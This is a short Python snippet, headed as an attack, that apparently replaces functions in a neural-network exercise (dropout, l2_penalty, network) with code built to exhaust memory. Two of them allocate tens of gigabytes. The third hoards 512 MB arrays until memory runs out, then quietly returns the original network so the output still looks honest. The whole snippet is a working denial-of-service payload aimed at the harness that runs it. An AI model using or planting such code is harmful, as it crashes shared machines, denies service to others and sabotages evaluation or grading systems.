

# ---- attack: tensors and lists of tens of gigabytes; then memory exhausted and honest work after it
import numpy as np

_honest_network = network


def dropout(x, p=0.5, training=True):
    return torch.empty(10**10).fill_(1.0)


def l2_penalty(model, lam):
    return [0] * 10**10


def network(input_size, hidden_size, output_size, p=0.5):
    hoard = []
    try:
        while True:
            hoard.append(np.empty(2**26))  # 512 MB at a time, until the address space runs out
    except MemoryError:
        pass
    del hoard
    return _honest_network(input_size, hidden_size, output_size, p)
